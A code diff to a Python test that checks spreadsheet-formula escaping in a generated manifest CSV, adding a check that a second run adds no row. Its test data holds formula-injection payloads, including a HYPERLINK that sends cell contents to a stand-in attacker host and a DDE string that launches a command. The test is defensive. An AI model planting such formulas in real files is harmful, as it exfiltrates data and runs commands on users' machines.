@@ -202,6 +202,8 @@ def test_manifest_cells_a_spreadsheet_would_run_are_kept_as_text(root):
     cells = [row[key] for row in rows for key in ("order_id", "variant")]
     assert cells == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@SUM(1+1)", "'-2+3",
                      "'+cmd|' /C calc'!A0"]
-    assert run(root) == 0 and len(rows) == 2
+    assert run(root) == 0
+    with (root.production / "manifest.csv").open(newline="", encoding="utf-8") as handle:
+        assert len(list(csv.DictReader(handle))) == 2, "a second run adds no row"
     # Tab and carriage return start formulas too; order values cannot hold them (one line), other cells might.
     assert [handoff.spreadsheet_safe(text) for text in ("\tx", "\rx", "1234", 5)] == ["'\tx", "'\rx", "1234", 5]
